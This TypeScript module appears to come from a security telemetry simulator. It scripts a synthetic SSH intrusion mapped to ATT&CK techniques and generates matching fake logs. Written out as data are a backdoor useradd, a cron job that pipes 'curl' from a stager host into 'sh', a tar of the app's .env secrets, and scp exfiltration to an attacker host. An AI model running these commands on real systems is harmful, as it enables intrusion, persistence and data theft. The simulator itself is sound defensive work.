/**
 * @module
 * Story `ssh-intrusion`: an SSH password guesser from the internet gets into a Linux server as
 * the application user (T1110.001), looks around (T1033, T1082, T1087.001), adds a login of its
 * own (T1136.001) and a cron job that pulls a script every ten minutes (T1053.003), then tars
 * the application's secrets and data (T1560.001) and copies them out with scp (T1048).
 */
import { cronRun } from '../activity/cron.js';
import { shellCommand, sshFailure, sshLogin, sshLogout } from '../activity/ssh.js';
import type { SimEnv } from '../engine/env.js';
import { HOURS, MINUTE } from '../engine/rhythm.js';
import type { Ctx, Script } from '../engine/scheduler.js';
import { FACILITY, newPid, pam, SEVERITY, syslog } from '../linux/actions.js';
import { conn, http } from '../network/zeek.js';
import { GUESSED_LINUX_USERS } from '../world/names.js';
import type { LinuxHost } from '../world/world.js';

const APP_USER = 'deploy';
const APP_UID = 1050;

/** The planted cron job pulling and running a script. */
function* plantedCron(ctx: Ctx, env: SimEnv, host: LinuxHost, command: string, until: number): Script {
  const stager = env.world.adversary.stager;
  yield 10 * MINUTE - (ctx.now % (10 * MINUTE));
  while (ctx.now < until) {
    cronRun(ctx, host, APP_USER, APP_UID, command);
    http(ctx, {
      src: host.ip,
      dst: stager,
      host: stager,
      method: 'GET',
      uri: '/u.sh',
      userAgent: 'curl/7.81.0',
      status: 200,
      requestBytes: 0,
      responseBytes: ctx.rng.int(600, 1_400),
      mime: 'text/x-sh',
      offset: 40,
    });
    yield 10 * MINUTE;
  }
}

/** Runs the story against `host`. */
export function* sshIntrusion(ctx: Ctx, env: SimEnv, host: LinuxHost): Script {
  const rng = ctx.rng;
  const w = env.world;
  const attacker = w.adversary.sshGuesser;

  ctx.label = 'T1110.001';
  const tries = rng.int(60, 240);
  for (let i = 0; i < tries; i++) {
    const port = rng.int(32_768, 60_999);
    const user = i > tries * 0.8 && rng.chance(0.5) ? APP_USER : rng.pick(GUESSED_LINUX_USERS);
    const valid = user === 'root' || user === APP_USER;
    conn(ctx, {
      src: attacker,
      sport: port,
      dst: host.ip,
      dport: 22,
      proto: 'tcp',
      service: 'ssh',
      duration: rng.range(2, 6),
      origBytes: rng.int(1_400, 2_200),
      respBytes: rng.int(1_900, 2_800),
      state: 'SF',
    });
    sshFailure(ctx, host, user, valid, attacker, port, 50);
    yield rng.range(1_500, 9_000);
  }
  const session = sshLogin(ctx, host, APP_USER, APP_UID, attacker, 'password');
  ctx.involve(APP_USER);
  const length = rng.range(40, 80) * MINUTE;
  conn(ctx, {
    src: attacker,
    sport: session.port,
    dst: host.ip,
    dport: 22,
    proto: 'tcp',
    service: 'ssh',
    duration: length / 1000,
    origBytes: rng.int(30_000, 120_000),
    respBytes: rng.int(200_000, 900_000),
  });
  yield rng.range(30_000, 120_000);

  const discovery: readonly (readonly [string, readonly string[], string])[] = [
    ['T1033', ['id'], '/usr/bin/id'],
    ['T1082', ['uname', '-a'], '/usr/bin/uname'],
    ['T1087.001', ['cat', '/etc/passwd'], '/usr/bin/cat'],
    ['T1082', ['cat', '/etc/os-release'], '/usr/bin/cat'],
  ];
  for (const [technique, argv, exe] of discovery) {
    ctx.label = technique;
    shellCommand(ctx, host, session, argv, exe, false);
    yield rng.range(5_000, 40_000);
  }
  yield rng.range(2, 6) * MINUTE;

  ctx.label = 'T1136.001';
  const login = rng.pick(['sysadm', 'backup2', 'mysql-adm', 'systemd-net']);
  ctx.involve(login);
  const uid = APP_UID + 1 + rng.int(0, 5);
  shellCommand(ctx, host, session, ['useradd', '-m', '-s', '/bin/bash', login], '/usr/sbin/useradd', true);
  const pid = newPid(ctx, host);
  const common = {
    pid,
    uid: 0,
    auid: APP_UID,
    ses: session.who.ses,
    exe: '/usr/sbin/useradd',
    hostname: host.name,
    addr: '?',
    terminal: session.who.tty.replace('pts', 'pts/'),
    ok: true,
  } as const;
  pam(ctx, host, { ...common, type: 'ADD_GROUP', op: `op=add-group id=${uid}`, offset: 60 });
  syslog(ctx, host, FACILITY.authpriv, SEVERITY.info, 'useradd', pid, `new group: name=${login}, GID=${uid}`, 61);
  pam(ctx, host, { ...common, type: 'ADD_USER', op: `op=add-user id=${uid}`, offset: 70 });
  syslog(
    ctx,
    host,
    FACILITY.authpriv,
    SEVERITY.info,
    'useradd',
    pid,
    `new user: name=${login}, UID=${uid}, GID=${uid}, home=/home/${login}, shell=/bin/bash, from=/dev/${session.who.tty.replace('pts', 'pts/')}`,
    71,
  );
  shellCommand(ctx, host, session, ['passwd', login], '/usr/bin/passwd', true, rng.int(5_000, 20_000));
  yield rng.range(2, 6) * MINUTE;

  ctx.label = 'T1053.003';
  const stager = w.adversary.stager;
  const job = `curl -fsSL http://${stager}/u.sh | sh`;
  shellCommand(ctx, host, session, ['crontab', '-l'], '/usr/bin/crontab', false);
  shellCommand(ctx, host, session, ['crontab', '-'], '/usr/bin/crontab', false, rng.int(5_000, 20_000));
  syslog(ctx, host, FACILITY.cron, SEVERITY.info, 'crontab', undefined, `(${APP_USER}) REPLACE (${APP_USER})`, 20_100);
  syslog(ctx, host, FACILITY.cron, SEVERITY.info, 'cron', 812, `(${APP_USER}) RELOAD (crontabs/${APP_USER})`, 60_000);
  ctx.spawn('cron', (c) => plantedCron(c, env, host, job, ctx.now + rng.range(4, 10) * HOURS), 61_000);
  yield rng.range(3, 10) * MINUTE;

  ctx.label = 'T1560.001';
  const out = '/tmp/.cache.tgz';
  shellCommand(
    ctx,
    host,
    session,
    ['tar', 'czf', out, '/var/www/app/.env', '/var/www/app/storage', '/etc/nginx'],
    '/usr/bin/tar',
    false,
  );
  yield rng.range(1, 4) * MINUTE;

  ctx.label = 'T1048';
  const exfil = w.adversary.exfil;
  shellCommand(ctx, host, session, ['scp', '-P', '22', out, `u@${exfil}:/upload/`], '/usr/bin/scp', false);
  shellCommand(
    ctx,
    host,
    session,
    [
      '/usr/bin/ssh',
      '-x',
      '-oPermitLocalCommand=no',
      '-oClearAllForwardings=yes',
      '-oRemoteCommand=none',
      '-oRequestTTY=no',
      '-oForwardAgent=no',
      '-l',
      'u',
      '-p',
      '22',
      '--',
      exfil,
      'scp -t /upload/',
    ],
    '/usr/bin/ssh',
    false,
    30,
  );
  conn(ctx, {
    src: host.ip,
    sport: rng.int(32_768, 60_999),
    dst: exfil,
    dport: 22,
    proto: 'tcp',
    service: 'ssh',
    duration: rng.range(60, 600),
    origBytes: Math.round(rng.range(5e7, 4e8)),
    respBytes: rng.int(20_000, 120_000),
    offset: 500,
  });
  yield rng.range(2, 8) * MINUTE;

  ctx.label = 'T1110.001';
  sshLogout(ctx, host, session);
}
